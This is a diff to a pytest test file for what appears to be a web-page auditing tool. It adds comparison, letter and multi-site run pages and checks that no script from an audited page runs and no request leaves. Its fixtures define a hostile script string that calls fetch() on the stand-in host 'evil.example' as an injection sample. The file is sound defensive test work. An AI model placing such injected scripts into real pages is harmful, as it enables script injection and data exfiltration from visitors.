@@ -3,21 +3,26 @@
 from __future__ import annotations
 
 import json
+import tempfile
 from functools import cache
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import pytest
 
 from auditor import pipeline
 from auditor.evidence import annotate_audit
+from auditor.reporting.comparing import compare_records
+from auditor.reporting.difference import render_diff_html
 from auditor.reporting.html import render_html
+from auditor.reporting.letters import render_letter, select_findings
 from auditor.reporting.record import to_record
 from tests.browsers import needs_browser, open_chromium
 from tests.factories import page as make_page
+from tests.runs import SITES, attack_run, read_pages, scan_sites
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
-    from pathlib import Path
 
 EVIL = "http://evil.example"
 RUN = f"window.ran = 1; document.title = 'ran'; fetch('{EVIL}/fetch')"
@@ -110,12 +115,58 @@ def write_annotated() -> str:
     return annotate_audit(made.page, record, report="page.html")
 
 
+@cache
+def soften_attack() -> dict[str, Any]:
+    """Return the record of the attack as it stands a week later, some of its claims gone and others reworded."""
+    markup = write_attack().replace("cures arthritis", "may ease arthritis").replace("100% safe", "well tolerated", 4)
+    url = f"{EVIL}/{escape_attribute(BREAKS[1])}"
+    page = make_page(markup, url=url, source=url, retrieved="2031-03-21T09:26:53Z")
+    return to_record(pipeline.audit_page(page, settings=pipeline.Settings(language="en")))
+
+
+def write_comparison(*, flooded: bool = False) -> str:
+    """Return what changed in the attack."""
+    before = flood_record() if flooded else audit_attack()[1]
+    return render_diff_html(compare_records(before, soften_attack()))
+
+
+def write_letter(kind: str, to: str, *, flooded: bool = False) -> str:
+    """Return the draft of a letter about the attack."""
+    record = flood_record() if flooded else audit_attack()[1]
+    return render_letter(record, select_findings(record, [], kind, to), kind=kind, to=to, form="html")
+
+
+@cache
+def write_run() -> dict[str, str]:
+    """Return the pages of a run over the attack and others, with a list, addresses and reasons as hostile as it is."""
+    with tempfile.TemporaryDirectory() as place:
+        folder = Path(place)
+        (folder / "attacked").mkdir()
+        run = scan_sites(folder, SITES | {"attack": write_attack()})
+        return read_pages(attack_run(run, folder / "attacked", " ".join(BREAKS)))
+
+
 PAGES: dict[str, Callable[[], str]] = {
     "report": write_report,
     "report, flooded": lambda: render_html(flood_record()),
     "annotated page": write_annotated,
     "annotated page, flooded": lambda: annotate_audit(audit_attack()[0].page, flood_record(), report="page.html"),
+    "comparison": write_comparison,
+    "comparison, flooded": lambda: write_comparison(flooded=True),
+    "complaint": lambda: write_letter("complaint", "generic"),
+    "complaint, German": lambda: write_letter("complaint", "de-wettbewerbszentrale"),
+    "right of reply": lambda: write_letter("right-of-reply", "generic"),
+    "right of reply, flooded": lambda: write_letter("right-of-reply", "generic", flooded=True),
+    "run": lambda: write_run()["index"],
+    "run, site": lambda: write_run()["attack"],
+    "run, site that changed": lambda: write_run()["lumora"],
 }
+
+
+@cache
+def render(name: str) -> str:
+    """Return the page called *name*, made once."""
+    return PAGES[name]()
 
 
 @pytest.fixture(scope="module", name="chromium")
@@ -157,7 +208,7 @@ def test_the_attack_works_on_its_own(chromium: Any) -> None:
 def test_nothing_of_the_page_is_alive(name: str, bypass: bool, chromium: Any, tmp_path: Path) -> None:
     """No script of the page runs, no request leaves and nobody is led away, even where the page's policy did not hold."""
     path = tmp_path / "page.html"
-    path.write_text(PAGES[name](), "utf-8")
+    path.write_text(render(name), "utf-8")
     asked: list[str] = []
     dialogs: list[str] = []
     context = chromium.new_context(bypass_csp=bypass)
@@ -205,4 +256,4 @@ def test_the_page_cannot_touch_the_notes(chromium: Any, tmp_path: Path) -> None:
 @pytest.mark.parametrize("name", PAGES)
 def test_a_flood_stays_small(name: str) -> None:
     """5,000 findings and an attribute of a megabyte make a page that opens at once."""
-    assert len(PAGES[name]().encode()) < 1_500_000
+    assert len(render(name).encode()) < 1_500_000
